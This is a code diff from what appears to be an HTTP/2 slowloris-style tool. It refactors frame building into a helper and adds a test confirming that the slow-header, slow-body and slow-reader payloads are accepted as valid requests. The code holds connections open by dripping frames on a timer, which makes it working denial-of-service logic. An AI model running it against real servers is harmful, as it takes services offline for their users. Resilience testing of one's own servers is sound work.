@@ -103,14 +103,48 @@ async fn h2<S>(mut stream: S, attacker: &Attacker, host: &str) -> io::Result<Opt
 where
     S: AsyncRead + AsyncWrite + Unpin,
 {
-    let scheme = if attacker.protocol.is_tls() {
-        0x87
-    } else {
-        0x86
-    };
+    let (first, drip) = h2_words(attacker.way, attacker.protocol.is_tls(), host);
+    stream.write_all(&first).await?;
+    stream.flush().await?;
+    let (mut status, mut unread) = (None, Vec::new());
+    let mut piece = [0; 4096];
+    let mut ticks = tokio::time::interval(attacker.interval.0);
+    loop {
+        tokio::select! {
+            read = stream.read(&mut piece) => {
+                let read = match read {
+                    Ok(0) | Err(_) => return Ok(status),
+                    Ok(read) => read,
+                };
+                unread.extend_from_slice(&piece[..read]);
+                let heard = Heard::take(&mut unread);
+                status = status.or(heard.status);
+                // A slow sender's stream is what the attack is about; a connection without it holds nothing.
+                if heard.ended && matches!(attacker.way, Way::SlowHead | Way::SlowBody) {
+                    return Ok(status);
+                }
+                // Nothing but a head is under way in the middle of one.
+                if attacker.way != Way::SlowHead && !heard.reply.is_empty()
+                    && (stream.write_all(&heard.reply).await.is_err() || stream.flush().await.is_err())
+                {
+                    return Ok(status);
+                }
+            }
+            _ = ticks.tick() => {
+                if stream.write_all(&drip).await.is_err() || stream.flush().await.is_err() {
+                    return Ok(status);
+                }
+            }
+        }
+    }
+}
+
+/// What is said over HTTP/2 at once, and then again and again.
+fn h2_words(way: Way, is_tls: bool, host: &str) -> (Vec<u8>, Vec<u8>) {
+    let scheme = if is_tls { 0x87 } else { 0x86 };
     let mut first = PREFACE.to_vec();
     let mut drip: Vec<u8> = Vec::new();
-    match attacker.way {
+    match way {
         Way::Hold => frame(&mut first, SETTINGS, 0, 0, &[]),
         Way::SlowHead => {
             frame(&mut first, SETTINGS, 0, 0, &[]);
@@ -158,39 +192,7 @@ where
             frame(&mut drip, WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
         }
     }
-    stream.write_all(&first).await?;
-    stream.flush().await?;
-    let (mut status, mut unread) = (None, Vec::new());
-    let mut piece = [0; 4096];
-    let mut ticks = tokio::time::interval(attacker.interval.0);
-    loop {
-        tokio::select! {
-            read = stream.read(&mut piece) => {
-                let read = match read {
-                    Ok(0) | Err(_) => return Ok(status),
-                    Ok(read) => read,
-                };
-                unread.extend_from_slice(&piece[..read]);
-                let heard = Heard::take(&mut unread);
-                status = status.or(heard.status);
-                // A slow sender's stream is what the attack is about; a connection without it holds nothing.
-                if heard.ended && matches!(attacker.way, Way::SlowHead | Way::SlowBody) {
-                    return Ok(status);
-                }
-                // Nothing but a head is under way in the middle of one.
-                if attacker.way != Way::SlowHead && !heard.reply.is_empty()
-                    && (stream.write_all(&heard.reply).await.is_err() || stream.flush().await.is_err())
-                {
-                    return Ok(status);
-                }
-            }
-            _ = ticks.tick() => {
-                if stream.write_all(&drip).await.is_err() || stream.flush().await.is_err() {
-                    return Ok(status);
-                }
-            }
-        }
-    }
+    (first, drip)
 }
 
 /// A frame (RFC 9113, section 4.1) of content that is shorter than any bound.
@@ -299,5 +301,34 @@ mod tests {
         let heard = Heard::take(&mut said);
         assert_eq!((heard.status, heard.ended), (Some(408), true));
         assert!(heard.reply.is_empty() && said.is_empty());
+    }
+
+    /// Hostile as it is, it is HTTP/2 that a server takes: what each way says, finished, is a request.
+    #[tokio::test]
+    async fn what_is_said_is_http2() {
+        for (way, path) in [
+            (Way::SlowHead, "/"),
+            (Way::SlowBody, "/cart/add"),
+            (Way::SlowReader, "/products"),
+        ] {
+            let (mut said, drip) = h2_words(way, true, "shop.example");
+            match way {
+                // Behind the preface and the heads of two frames.
+                Way::SlowHead => said.resize(PREFACE.len() + 9 + 9 + HEAD_LENGTH as usize, drip[0]),
+                _ => said.extend_from_slice(&drip),
+            }
+            let (mut ours, theirs) = tokio::io::duplex(1 << 16);
+            let server = tokio::spawn(async move {
+                let mut connection = h2::server::handshake(theirs).await.expect("a preface");
+                let (request, _) = connection.accept().await.expect("one").expect("a request");
+                request
+            });
+            ours.write_all(&said).await.expect("taken");
+            let request = server.await.expect("ends");
+            assert_eq!(request.uri().path(), path, "{}", way.name());
+            if way == Way::SlowHead {
+                assert!(request.headers()["x-slow"].len() > 5000);
+            }
+        }
     }
 }
